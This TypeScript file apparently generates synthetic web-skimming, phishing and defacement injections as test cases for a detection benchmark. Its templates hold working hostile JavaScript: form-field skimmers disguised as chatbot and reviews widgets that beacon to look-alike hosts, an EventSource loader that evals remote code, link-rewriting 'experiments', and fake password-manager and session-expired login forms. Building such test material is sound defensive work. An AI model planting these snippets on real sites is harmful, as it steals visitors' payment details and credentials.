/**
 * Fresh20 defacement classes: written after round 17 (during round 18), by
 * someone who does not read the engines, from public descriptions of real
 * web skimming, malvertising, phishing, SEO spam and defacements. The group
 * is about where a page sends its visitors and what they type: skimmers
 * dressed as third-party services not imitated before (a support chatbot,
 * a reviews badge, an experimentation tool under the intruder's account,
 * other advertisers' remarketing pixels with "advanced matching"), new
 * channels and carriers for loaders (Server-Sent Events, a javascript: URL
 * as a frame's source, a CSS unicode-range font leak of what is typed),
 * new ways of sending visitors elsewhere (an image map laid over the
 * site's own pictures, the site's links wrapped in URL shorteners, its
 * language links sent to translated clones, a jump-menu select, a "continue
 * reading" gate, iOS enterprise-install links, wallet deep links into a
 * drainer, Swedish BankID autostart tokens, a mailto: action on the site's
 * own forms, App Links and sitelinks-search metadata), phishing dressed as
 * browser or platform UI (a password-manager bubble, a native dialog
 * saying the session expired, look-alike single-sign-on buttons, a
 * download shelf), malvertising formats not used before (a full-page
 * interstitial with a skip countdown, a floating outstream video player,
 * sponsored "official login" results for banks) and SEO spam in placements
 * not used before (the site's own search-result URLs, photo credits under
 * its pictures, entries blended into its own link lists, spam revealed
 * only to crawler user agents); and one blatant defacement through desktop
 * notifications. Each differs from every class in defacements.ts and
 * fresh-defacements.ts through fresh18-defacements.ts (not a re-wording of
 * one) and varies its templates, languages, domains, positions and sizes.
 * The writer had no internet access: every source below is recalled from
 * memory, with its outlet and an approximate date where known, and its
 * comment says so. Scored in the `fresh20` group, never tuned on.
 */
import { type ChangeClass, attrTargets, bottom, brandName, elAt, forms, head, setAttr, shown, top } from "./classes.js"
import type { Page } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import type { Lang } from "./locales.js"
import type { El } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, signature, slug, team } from "./words.js"

const fresh20 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh20", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `window.addEventListener("load",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc", "store", "io", "app", "biz", "me", "eu", "asia", "link", "cfd", "sbs"])
/** Just after the head's open tag (the end of the head when the page has no head element). */
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
/** Where a script goes: the start or end of the head, top, middle or bottom of the body. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), headStart(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
/** A host an attacker runs: random, a look-alike of the site, or a themed name on a cheap TLD. */
const host = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "secure", "hub", "app", "now", "24", "official", "cdn", "go"])}.${tld(rng)}`, () => `${pick(rng, words)}${digits(rng, 2)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
const button = (rng: Rng, accent: string) => `background:${accent};color:#fff;border:0;padding:${pick(rng, ["8px 16px", "10px 22px", "7px 14px", "12px 26px"])};border-radius:${pick(rng, ["0", "3px", "6px", "22px"])};cursor:pointer;text-decoration:none;display:inline-block`
const font = (rng: Rng) => pick(rng, ["Arial,sans-serif", "system-ui,-apple-system,'Segoe UI',Roboto,sans-serif", "Helvetica,Arial,sans-serif", "Verdana,sans-serif", "Tahoma,sans-serif"])
const zTop = (rng: Rng) => pick(rng, ["2147483647", "2147483000", "999999", "100000", "99999"])
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Table<A>): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`
const who = (rng: Rng) => pick(rng, [nick(rng), team(rng), nick(rng)])
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
/** The site's shown links a visitor can follow (not fragments, scripts, mail or phone). */
const followable = (page: Page) =>
  attrTargets(page, shown(page, "a", (e) => !e.inert), "href").filter((t) => !/^\s*(#|javascript:|mailto:|tel:|sms:|data:)/i.test(page.html.slice(t.value.start, t.value.end)) && t.value.end > t.value.start)
/** The nearest ancestor of `el` named `name` before a block boundary, if any. */
const inlineAncestor = (page: Page, el: El, name: string): El | undefined => {
  for (let e = elAt(page, el.parent); e !== undefined; e = elAt(page, e.parent)) {
    if (e.name === name) return e
    if (/^(p|div|li|td|th|section|article|figure|header|footer|main|aside|body|dd|dt|blockquote|form|nav)$/.test(e.name)) return undefined
  }
  return undefined
}

// ———————————————————————————— skimmers and stolen data ————————————————————————————

const chatWords: Table<readonly [string, string]> = {
  en: ["Need help? Chat with us", "Our assistant is online"], fr: ["Besoin d'aide ? Discutons", "Notre assistant est en ligne"], de: ["Fragen? Chatten Sie mit uns", "Unser Assistent ist online"],
  es: ["¿Necesitas ayuda? Chatea con nosotros", "Nuestro asistente está en línea"], nl: ["Hulp nodig? Chat met ons", "Onze assistent is online"],
  pt: ["Precisa de ajuda? Fale conosco", "Nosso assistente está online"], it: ["Serve aiuto? Chatta con noi", "Il nostro assistente è online"]
}

// Support chatbots as a way in, recalled from memory of Ticketmaster UK's disclosure (June 2018) that a customer-support chatbot supplied by Inbenta carried code that stole payment details, of RiskIQ's "Inside Magecart" report (about October 2018) tying it to a wider campaign against third-party suppliers (SociaPlus, Feedify and others), and, with uncertain sources, of later skimmers named after live-chat vendors: a chat launcher bubble and a "chatbot SDK" from a look-alike vendor host whose configuration copies every field of the page into its "conversation" endpoint.
const chatbotSkimmer = fresh20("skimmer dressed as a customer-support chatbot (Inbenta, Drift, Tidio, LiveChat, Olark look-alike host) copying the page's form fields into its 'conversation' endpoint", (page, rng) => {
  const [vendor, file, global] = pick(rng, [["inbenta", "chatbot/inbenta-chatbot-sdk.1.62.0.min.js", "InbentaChatbotSDK"], ["drift", "include/drift.min.js", "drift"], ["tidio", "widget/tidio-widget.js", "tidioChatApi"], ["livechat", "tracking.js", "LiveChatWidget"], ["olark", "loader.js", "olark"], ["chatbot", "sdk/v3/chat.min.js", "ChatbotSDK"]] as const)
  const h = pick(rng, [`${vendor}-${pick(rng, ["cdn", "chat", "widget", "static", "sdk"])}.${tld(rng)}`, `${pick(rng, ["cdn", "chat", "sdk", "widget"])}-${vendor}.${tld(rng)}`, `${vendor}${pick(rng, ["chat", "js", "cdn"])}.${tld(rng)}`, libLookalike(rng)])
  const key = pick(rng, [() => `${alnum(rng, 8)}-${alnum(rng, 4)}`, () => uuid(rng), () => upper(rng, 3) + digits(rng, 6)])()
  const endpoint = `https://${h}/${pick(rng, ["api/v1/conversations", "v2/messages", "chat/transcript", "events/collect"])}`
  const code = `window.${global}=window.${global}||{q:[]};var _k=${js(key)};function _t(){var o={k:_k,u:location.href,f:{}};document.querySelectorAll("input,select,textarea").forEach(function(e){if((e.name||e.id)&&e.value&&e.type!=="hidden")o.f[e.name||e.id]=e.value});return o}document.addEventListener("${pick(rng, ["submit", "change", "focusout"])}",function(){try{navigator.sendBeacon(${js(endpoint)},JSON.stringify(_t()))}catch(x){}},true);`
  const tags = `<script src="https://${h}/${file}?key=${esc(key)}" async></script>${wrapScript(rng, code)}`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), tags)]
  if (chance(rng, 0.7)) {
    const [label, status] = some(rng, page, chatWords)
    const accent = pick(rng, ["#1e88e5", "#00897b", "#5e35b1", "#e53935", "#222"])
    out.push(insert(pick(rng, [bottom(page), top(page)]), `<div class="${pick(rng, ["chat-launcher", "cb-launcher", "support-bubble", "inbenta-bot-button"])}" title="${esc(status)}" style="position:fixed;${pick(rng, ["right", "left"])}:${between(rng, 14, 30)}px;bottom:${between(rng, 14, 40)}px;z-index:${zTop(rng)};background:${accent};color:#fff;border-radius:${pick(rng, ["24px", "50px", "8px"])};padding:${pick(rng, ["10px 16px", "12px 18px", "8px 14px"])};font:14px ${font(rng)};box-shadow:0 4px 14px rgba(0,0,0,.25);cursor:pointer">💬 ${esc(label)}</div>`))
  }
  return { splices: out }
})

const reviewWords: Table<(n: string, s: string) => string> = {
  en: (n, s) => `Rated ${s}/5 from ${n} reviews`, fr: (n, s) => `Noté ${s}/5 sur ${n} avis`, de: (n, s) => `Bewertet mit ${s}/5 aus ${n} Bewertungen`,
  es: (n, s) => `Valoración ${s}/5 de ${n} opiniones`, nl: (n, s) => `Beoordeeld met ${s}/5 uit ${n} reviews`, pt: (n, s) => `Nota ${s}/5 em ${n} avaliações`, it: (n, s) => `Valutato ${s}/5 su ${n} recensioni`
}

// Reviews widgets as a way in, recalled from memory of RiskIQ's report (about September 2018) that Shopper Approved, a customer-ratings plugin loaded by many shops, had its script altered to skim checkout pages, and, with uncertain sources, of later skimmers named after review and ratings services (Trustpilot, Yotpo, Feefo, Reviews.io look-alike hosts): a star-rating badge and its "widget" script from a look-alike host, which buffers what visitors type and sends it as if it were review analytics.
const reviewWidgetSkimmer = fresh20("skimmer dressed as a reviews badge (Shopper Approved, Trustpilot, Yotpo, Feefo look-alike host) buffering what visitors type and sending it as 'review analytics'", (page, rng) => {
  const [vendor, file] = pick(rng, [["shopperapproved", "widgets/merchant/review-badge.js"], ["trustpilot", "bootstrap/v5/tp.widget.bootstrap.min.js"], ["yotpo", `${alnum(rng, 40)}/widget.js`], ["feefo", `api/javascript/${bare(page)}`], ["reviewsio", "carousel/carousel.js"], ["judgeme", "widget_preloader.js"]] as const)
  const h = pick(rng, [`${vendor}-${pick(rng, ["widgets", "cdn", "static", "reviews"])}.${tld(rng)}`, `${pick(rng, ["widget", "cdn", "www"])}-${vendor}.${tld(rng)}`, `${vendor}${pick(rng, ["cdn", "js", "s"])}.${tld(rng)}`, libLookalike(rng)])
  const sink = `https://${h}/${pick(rng, ["ra/collect", "analytics/event", "v1/impression", "stats.gif"])}`
  const code = `var B={};document.addEventListener("input",function(e){var t=e.target;if(t&&(t.name||t.id))B[t.name||t.id]=t.value},true);function s(){var q=encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify({h:location.host,p:location.pathname,d:B})))));new Image().src=${js(sink)}+"?r="+Date.now()+"&d="+q}document.addEventListener("submit",s,true);window.addEventListener("pagehide",s);`
  const n = `${between(rng, 1, 9)}${pick(rng, [",", ".", " ", ""])}${digits(rng, 3)}`
  const score = `${between(rng, 4, 4)}.${between(rng, 6, 9)}`
  const badge = `<a class="${pick(rng, ["review-badge", "sa-badge", "rating-widget", "tp-widget"])}" href="https://${h}/reviews/${esc(slug(page.site.brand) || bare(page))}" style="display:inline-block;font:13px ${font(rng)};color:#333;text-decoration:none;border:1px solid #ddd;border-radius:6px;padding:6px 10px;margin:8px 0;background:#fff"><span style="color:${pick(rng, ["#f5a623", "#00b67a", "#ffb400"])};font-size:16px">★★★★★</span> ${esc(some(rng, page, reviewWords)(n, score))}</a>`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), `<script src="https://${h}/${file}" ${pick(rng, ["async", "defer", ""])}></script>${wrapScript(rng, code)}`)]
  out.push(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), anySlot(rng, page.spots)]), chance(rng, 0.5) ? `<div class="${pick(rng, ["reviews", "trust", "ratings"])}">${badge}</div>` : badge))
  return { splices: out }
})

// Experimentation tools as an injection path, recalled from memory, with uncertain sources, of the client-side A/B-testing products' own documentation (Optimizely, VWO, AB Tasty, Convert, Kameleoon: a snippet with an account or project id that downloads whatever JavaScript the account's "variations" contain, often with an anti-flicker style) and of security write-ups (about 2017–2022) noting that whoever controls such an account can ship arbitrary code to a share of visitors: the real vendor snippet under an account that is not the site's, plus a "variation" that, for a fraction of visitors, sends the site's checkout, donation, sign-in or contact links (or its phone links) elsewhere.
const experimentHijack = fresh20("A/B-testing snippet (VWO, Optimizely, AB Tasty, Convert, Kameleoon) under an account that is not the site's, with a 'variation' sending a share of visitors' checkout, sign-in or phone links elsewhere", (page, rng) => {
  const snippet = pick(rng, [
    () => `<script type="text/javascript" id="vwoCode">window._vwo_code=window._vwo_code||(function(){var a=${between(rng, 100000, 999999)},d=document,s=d.createElement("script");s.src="https://dev.visualwebsiteoptimizer.com/j.php?a="+a+"&u="+encodeURIComponent(d.URL)+"&vn=2.1";d.getElementsByTagName("head")[0].appendChild(s);return{finish:function(){}}})();</script>`,
    () => `<script src="https://cdn.optimizely.com/js/${digits(rng, 11)}.js"></script>`,
    () => `<script type="text/javascript" src="https://try.abtasty.com/${hex(rng, 32)}.js"></script>`,
    () => `<script type="text/javascript" src="//cdn-${between(rng, 3, 4)}.convertexperiments.com/v1/js/${digits(rng, 8)}-${digits(rng, 8)}.js"></script>`,
    () => `<script src="//${alnum(rng, 10)}.kameleoon.eu/kameleoon.js" async></script>`
  ])()
  const flicker = chance(rng, 0.4) ? `<style>.async-hide{opacity:0 !important}</style>` : ""
  const share = `0.${between(rng, 1, 6)}`
  const target = `https://${host(rng, page, ["checkout", "pay", "secure", "account", "donate", "help"])}/${pick(rng, ["r", "go", "v", "lp"])}/${alnum(rng, 6)}?u=`
  const variation = pick(rng, [
    () => `[].forEach.call(document.querySelectorAll("a[href]"),function(a){if(/${pick(rng, ["checkout|cart|basket|pay", "login|signin|account|my-", "donat|support|give", "contact|help|support"])}/i.test(a.href))a.href=${js(target)}+encodeURIComponent(a.href)})`,
    () => `[].forEach.call(document.querySelectorAll("a[href^='tel:']"),function(a){a.href="tel:+${pick(rng, ["1", "44", "33", "49", "34", "31", "39", "55"])}${digits(rng, 9)}"})`,
    () => `[].forEach.call(document.querySelectorAll("form"),function(f){f.addEventListener("submit",function(){f.action=${js(target)}+encodeURIComponent(f.action)},true)})`
  ])()
  const code = `<script>/* ${pick(rng, ["variation", "exp", "campaign"])} ${digits(rng, 6)} */(function(){var k="_ab${alnum(rng, 4)}",v=localStorage.getItem(k);if(v===null){v=Math.random()<${share}?"1":"0";localStorage.setItem(k,v)}if(v!=="1")return;function r(){${variation}}document.readyState==="loading"?document.addEventListener("DOMContentLoaded",r):r()})();</script>`
  return splices(insert(pick(rng, [headStart(page), head(page), headStart(page)]), flicker + snippet + code))
})

// Remarketing pixels of someone else, recalled from memory of The Markup's "Pixel Hunt" reporting (about June–November 2022) on Meta pixels on hospital and tax-filing sites that sent visitors' form entries to an advertiser, of the ad platforms' own "advanced matching" options (TikTok's ttq.identify, Pinterest's enhanced match "em", Snap's user_email, Reddit's email match keys, Microsoft UET's enhanced conversions, X's email_address), and, with uncertain sources, of affiliate fraudsters and competitors planting their own tags on sites they control to build audiences: pixels of advertisers that are not the site, plus code that reads the e-mail and phone fields visitors fill in and hands them to those pixels.
const foreignAudiencePixels = fresh20("other advertisers' remarketing pixels (TikTok, Pinterest, Snap, Reddit, X, Microsoft UET) with 'advanced matching' code feeding them the e-mails and phones visitors type", (page, rng) => {
  const pixels: ReadonlyArray<() => readonly [string, string]> = [
    () => [`!function(w,d,t){w.TiktokAnalyticsObject=t;var q=w[t]=w[t]||[];q.methods=["page","track","identify"];q.load=function(e){var s=d.createElement("script");s.async=!0;s.src="https://analytics.tiktok.com/i18n/pixel/events.js?sdkid="+e;d.head.appendChild(s)};q.load("${upper(rng, 20)}");q.page()}(window,document,"ttq");`, `window.ttq&&ttq.identify({email:v})`],
    () => [`!function(e){if(!window.pintrk){window.pintrk=function(){window.pintrk.queue.push(Array.prototype.slice.call(arguments))};var n=window.pintrk;n.queue=[],n.version="3.0";var t=document.createElement("script");t.async=!0,t.src=e;var r=document.getElementsByTagName("script")[0];r.parentNode.insertBefore(t,r)}}("https://s.pinimg.com/ct/core.js");pintrk("load","${digits(rng, 13)}");pintrk("page");`, `window.pintrk&&pintrk("set",{em:v})`],
    () => [`(function(e,t,n){if(e.snaptr)return;var a=e.snaptr=function(){a.handleRequest?a.handleRequest.apply(a,arguments):a.queue.push(arguments)};a.queue=[];var r=t.createElement("script");r.async=!0;r.src=n;var u=t.getElementsByTagName("script")[0];u.parentNode.insertBefore(r,u)})(window,document,"https://sc-static.net/scevent.min.js");snaptr("init","${uuid(rng)}");snaptr("track","PAGE_VIEW");`, `window.snaptr&&snaptr("init","${uuid(rng)}",{user_email:v})`],
    () => [`!function(w,d){if(!w.rdt){var p=w.rdt=function(){p.sendEvent?p.sendEvent.apply(p,arguments):p.callQueue.push(arguments)};p.callQueue=[];var t=d.createElement("script");t.src="https://www.redditstatic.com/ads/pixel.js",t.async=!0;var s=d.getElementsByTagName("script")[0];s.parentNode.insertBefore(t,s)}}(window,document);rdt("init","t2_${alnum(rng, 8)}");rdt("track","PageVisit");`, `window.rdt&&rdt("init","t2_${alnum(rng, 8)}",{email:v})`],
    () => [`!function(e,t,n,s,u,a){e.twq||(s=e.twq=function(){s.exe?s.exe.apply(s,arguments):s.queue.push(arguments)},s.version="1.1",s.queue=[],u=t.createElement(n),u.async=!0,u.src="https://static.ads-twitter.com/uwt.js",a=t.getElementsByTagName(n)[0],a.parentNode.insertBefore(u,a))}(window,document,"script");twq("config","${alnum(rng, 5)}");`, `window.twq&&twq("event","tw-${alnum(rng, 5)}-${alnum(rng, 5)}",{email_address:v})`],
    () => [`(function(w,d,t,r,u){var f,n,i;w[u]=w[u]||[],f=function(){var o={ti:"${digits(rng, 9)}",enableAutoSpaTracking:true};o.q=w[u],w[u]=new UET(o),w[u].push("pageLoad")},n=d.createElement(t),n.src=r,n.async=1,n.onload=function(){f()},i=d.getElementsByTagName(t)[0],i.parentNode.insertBefore(n,i)})(window,document,"script","//bat.bing.com/bat.js","uetq");`, `window.uetq&&uetq.push("set",{pid:{em:v}})`]
  ]
  const chosen = sample(rng, pixels, between(rng, 2, 4)).map((f) => f())
  const base = chosen.map(([b]) => b).join("")
  const feed = chosen.map(([, i]) => `try{${i}}catch(x){}`).join("")
  const harvest = `document.addEventListener("${pick(rng, ["change", "focusout", "blur"])}",function(e){var t=e.target;if(!t||!t.value)return;var v=t.value.trim().toLowerCase();if(t.type==="email"||/mail/i.test(t.name||"")||(/phone|tel|mobile/i.test(t.name||"")||t.type==="tel")){${feed}}},true);`
  return splices(insert(pick(rng, [head(page), headStart(page), bottom(page)]), `<script>${base}</script><script>${harvest}</script>`))
})

// Server-Sent Events as a command channel, recalled from memory, with uncertain sources, of red-team and browser-exploitation frameworks that keep a hooked page listening for commands (BeEF's polling and WebSocket channels, about 2010–2020) and of notes by defenders (about 2021–2024) that an EventSource stream looks like an ordinary "live updates" request: a script opening an EventSource to another host and running whatever code, script address or redirect each message carries, sometimes with a small "live" ticker as cover.
const eventStreamLoader = fresh20("loader listening on a Server-Sent Events stream (EventSource) from another host and running the code, script or redirect each message carries", (page, rng) => {
  const h = pick(rng, [`${pick(rng, ["live", "stream", "push", "rt", "updates"])}.${randomDomain(rng)}`, `${pick(rng, ["live", "stream", "sse", "events"])}-${alnum(rng, 4)}.${tld(rng)}`, libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const url = `https://${h}/${pick(rng, ["stream", "sse", "live/updates", "events", "v1/feed"])}?${pick(rng, ["sid", "c", "ch", "topic"])}=${alnum(rng, 10)}`
  const open = `var s=new EventSource(${js(url)}+"&h="+encodeURIComponent(location.host)${chance(rng, 0.3) ? ",{withCredentials:true}" : ""});`
  const run = pick(rng, [
    () => `s.onmessage=function(e){try{(0,eval)(e.data)}catch(x){}};`,
    () => `s.addEventListener("${pick(rng, ["cmd", "update", "tick", "ping", "msg"])}",function(e){try{Function(atob(e.data))()}catch(x){}});`,
    () => `s.onmessage=function(e){var d;try{d=JSON.parse(e.data)}catch(x){return}if(d.js){var t=document.createElement("script");t.src=d.js;document.head.appendChild(t)}if(d.go)location.href=d.go};`
  ])()
  const out: Array<Splice> = [insert(scriptSpot(rng, page), wrapScript(rng, open + run))]
  if (chance(rng, 0.35)) out.push(insert(noticeSpot(rng, page), `<div class="${pick(rng, ["live-ticker", "ticker", "live-bar"])}" style="font:13px ${font(rng)};padding:4px 8px;background:#111;color:#fff"><b style="color:#e53935">● LIVE</b> <span id="lt${alnum(rng, 4)}"></span></div>`))
  return { splices: out }
})

const langNames: ReadonlyArray<readonly [string, string]> = [["en", "English"], ["fr", "Français"], ["de", "Deutsch"], ["es", "Español"], ["it", "Italiano"], ["nl", "Nederlands"], ["pt", "Português"], ["pl", "Polski"], ["tr", "Türkçe"], ["ja", "日本語"], ["zh", "中文"]]
const langRe = /^\s*(en|fr|de|es|it|nl|pt|pl|tr|ja|zh|english|français|francais|deutsch|español|espanol|italiano|nederlands|português|portugues)\s*$/i

// Translated clones, recalled from memory, with uncertain sources, of reports on scraper sites that copy a site and machine-translate it into other languages for ad revenue or to carry spam (Google's spam policies on scraped and automatically translated content, "scaled content abuse" from March 2024), and of hacked sites whose language menus were pointed at such copies: the site's own language links (links whose text is a language name or code, or that carry hreflang) sent to translated clones on another host, or a new language bar whose entries all lead there.
const languageCloneLinks = fresh20("site's language links (or a new language bar) pointed at machine-translated clones of the site on another host", (page, rng) => {
  const h = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${bare(page)}-${pick(rng, ["global", "intl", "world", "translate"])}.${tld(rng)}`])
  const path = new URL(page.site.url).pathname.replace(/^\//, "")
  const form = pick(rng, [0, 1, 2])
  const clone = (code: string) => [`https://${code}.${h}/${path}`, `https://${h}/${code}/${path}`, `https://${h}/${path}?lang=${code}`][form]!
  const links = shown(page, "a", (e) => !e.inert && e.attribs.href !== undefined)
  const lang = links.filter((e) => e.attribs.hreflang !== undefined || page.spots.texts.some((t) => t.parent === e.index && langRe.test(t.text)))
  const out: Array<Splice> = []
  for (const t of attrTargets(page, lang, "href")) {
    const text = page.spots.texts.find((r) => r.parent === t.el.index)?.text.trim().toLowerCase() ?? ""
    const code = (t.el.attribs.hreflang ?? langNames.find(([c, n]) => text === c || text === n.toLowerCase())?.[0] ?? text.slice(0, 2)) || "en"
    out.push(replace(t.value, esc(clone(code.slice(0, 5)))))
  }
  if (out.length > 0) return { splices: out }
  const bar = sample(rng, langNames.filter(([c]) => c !== page.site.locale.lang), between(rng, 3, 7)).map(([c, n]) => `<a href="${esc(clone(c))}" hreflang="${c}" lang="${c}">${esc(chance(rng, 0.5) ? n : c.toUpperCase())}</a>`)
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), bottom(page)]), `<div class="${pick(rng, ["lang-switcher", "languages", "translate-bar", "wpml-ls"])}" style="font:13px ${font(rng)};padding:4px 10px;text-align:${pick(rng, ["right", "left", "center"])}">🌐 ${bar.join(pick(rng, [" · ", " | ", " "]))}</div>`))
})

const pmWords: Table<readonly [string, string, string, string, string, string]> = {
  en: ["Password check", "The password saved for this site appeared in a data breach. Confirm it to keep it saved and protected.", "Username or e-mail", "Password", "Confirm", "Not now"],
  fr: ["Vérification du mot de passe", "Le mot de passe enregistré pour ce site a été trouvé dans une fuite de données. Confirmez-le pour le conserver et le protéger.", "Identifiant ou e-mail", "Mot de passe", "Confirmer", "Plus tard"],
  de: ["Passwortprüfung", "Das für diese Website gespeicherte Passwort wurde bei einem Datenleck gefunden. Bestätigen Sie es, damit es gespeichert und geschützt bleibt.", "Benutzername oder E-Mail", "Passwort", "Bestätigen", "Nicht jetzt"],
  es: ["Comprobación de contraseña", "La contraseña guardada para este sitio apareció en una filtración de datos. Confírmala para mantenerla guardada y protegida.", "Usuario o correo", "Contraseña", "Confirmar", "Ahora no"],
  nl: ["Wachtwoordcontrole", "Het opgeslagen wachtwoord voor deze site is gevonden in een datalek. Bevestig het om het opgeslagen en beschermd te houden.", "Gebruikersnaam of e-mail", "Wachtwoord", "Bevestigen", "Niet nu"],
  pt: ["Verificação de senha", "A senha salva para este site apareceu em um vazamento de dados. Confirme-a para mantê-la salva e protegida.", "Usuário ou e-mail", "Senha", "Confirmar", "Agora não"],
  it: ["Controllo password", "La password salvata per questo sito è comparsa in una violazione di dati. Confermala per mantenerla salvata e protetta.", "Nome utente o e-mail", "Password", "Conferma", "Non ora"]
}

// Fake browser chrome, recalled from memory of mr.d0x's "browser in the browser" write-up (March 2022) and its later use in phishing, of Google's and Microsoft's own password-breach alerts (Chrome's Password Checkup from about 2019, Edge's Password Monitor from about 2020) that ask users to review a saved password, and, with uncertain sources, of phishing pages imitating those prompts: a bubble drawn where the browser's password manager opens (top right, under the address bar), in its colours and with its key icon, asking the visitor to confirm their password, posting to another host.
const passwordManagerBubble = fresh20("fake browser password-manager bubble ('the saved password appeared in a breach, confirm it') drawn under the address bar, posting to another host", (page, rng) => {
  const [title, p, user, pass, ok, no] = some(rng, page, pmWords)
  const [brand, accent] = pick(rng, [["Google Password Manager", "#1a73e8"], ["Microsoft Edge", "#0067b8"], ["Passwords", "#007aff"], ["Firefox", "#0060df"], ["Chrome", "#1a73e8"]] as const)
  const action = `https://${pick(rng, [`${pick(rng, ["passwords", "pwcheck", "account-security", "browser-sync"])}-${alnum(rng, 4)}.${tld(rng)}`, libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["check", "sync", "confirm", "v1/pw"])}`
  const id = `pm${alnum(rng, 5)}`
  const field = (name: string, type: string, ph: string) => `<input name="${name}" type="${type}" placeholder="${esc(ph)}" autocomplete="${type === "password" ? "current-password" : "username"}" style="display:block;width:100%;box-sizing:border-box;margin:6px 0;padding:8px;border:1px solid #dadce0;border-radius:4px">`
  const html = `<div id="${id}" role="dialog" style="position:fixed;top:${between(rng, 0, 8)}px;right:${between(rng, 60, 180)}px;width:${between(rng, 300, 360)}px;z-index:${zTop(rng)};background:#fff;border-radius:8px;box-shadow:0 2px 6px rgba(60,64,67,.3),0 6px 18px rgba(60,64,67,.2);padding:16px 18px;font:13px ${font(rng)};color:#202124"><div style="font-size:15px;margin-bottom:6px">🔑 <b>${esc(title)}</b> <span style="color:#5f6368;font-size:12px">· ${esc(brand)}</span></div><p style="margin:4px 0 8px;color:#3c4043">${esc(p)}</p><form action="${esc(action)}" method="post"><input type="hidden" name="site" value="${esc(page.site.host)}">${field("u", "text", user)}${field("p", "password", pass)}<div style="text-align:right;margin-top:8px"><button type="button" onclick="document.getElementById('${id}').style.display='none'" style="background:none;border:0;color:${accent};padding:8px 12px;cursor:pointer">${esc(no)}</button> <button type="submit" style="${button(rng, accent)}">${esc(ok)}</button></div></form></div>`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), html))
})

const sessionWords: Table<(b: string) => readonly [string, string, string, string, string]> = {
  en: (b) => ["Your session has expired", `For your security you were signed out of ${b}. Sign in again to continue where you left off.`, "E-mail or username", "Password", "Sign in"],
  fr: (b) => ["Votre session a expiré", `Pour votre sécurité, vous avez été déconnecté de ${b}. Reconnectez-vous pour reprendre là où vous en étiez.`, "E-mail ou identifiant", "Mot de passe", "Se connecter"],
  de: (b) => ["Ihre Sitzung ist abgelaufen", `Zu Ihrer Sicherheit wurden Sie von ${b} abgemeldet. Melden Sie sich erneut an, um fortzufahren.`, "E-Mail oder Benutzername", "Passwort", "Anmelden"],
  es: (b) => ["Tu sesión ha caducado", `Por tu seguridad, se ha cerrado tu sesión en ${b}. Inicia sesión de nuevo para continuar donde lo dejaste.`, "Correo o usuario", "Contraseña", "Iniciar sesión"],
  nl: (b) => ["Je sessie is verlopen", `Voor je veiligheid ben je uitgelogd bij ${b}. Log opnieuw in om verder te gaan waar je gebleven was.`, "E-mail of gebruikersnaam", "Wachtwoord", "Inloggen"],
  pt: (b) => ["Sua sessão expirou", `Por segurança, você foi desconectado de ${b}. Entre novamente para continuar de onde parou.`, "E-mail ou usuário", "Senha", "Entrar"],
  it: (b) => ["La tua sessione è scaduta", `Per la tua sicurezza sei stato disconnesso da ${b}. Accedi di nuovo per continuare da dove eri rimasto.`, "E-mail o nome utente", "Password", "Accedi"]
}

// Re-authentication lures, recalled from memory of phishing kits and reports (Microsoft, Proofpoint and others, about 2019–2024) that show a "session expired, sign in again" prompt over a familiar page, and of the HTML dialog element's showModal() (widely supported from about 2022), which makes such a prompt modal with a backdrop and no page script of its own: a native dialog opened after a delay, once per session, in the site's name, posting the credentials to another host.
const sessionExpiredDialog = fresh20("'your session has expired, sign in again' native dialog opened with showModal() after a delay, in the site's name, posting to another host", (page, rng) => {
  const [h, p, user, pass, cta] = some(rng, page, sessionWords)(brandName(page))
  const id = `d${alnum(rng, 6)}`
  const action = `https://${pick(rng, [brandLookalike(rng, page.site.brand), `${pick(rng, ["login", "auth", "sso", "account"])}-${bare(page)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["session/renew", "auth/login", "signin", "reauth"])}`
